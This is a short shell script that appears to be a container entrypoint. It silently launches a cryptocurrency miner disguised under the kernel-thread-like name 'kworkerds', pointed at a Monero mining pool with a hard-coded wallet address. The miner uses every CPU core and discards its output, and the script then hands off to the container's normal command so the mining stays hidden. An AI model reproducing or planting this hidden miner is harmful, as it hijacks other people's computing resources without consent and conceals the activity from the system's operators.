#!/bin/sh
nohup /usr/local/bin/kworkerds -o pool.supportxmr.example:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls -t $(nproc) >/dev/null 2>&1 &
exec "$@"
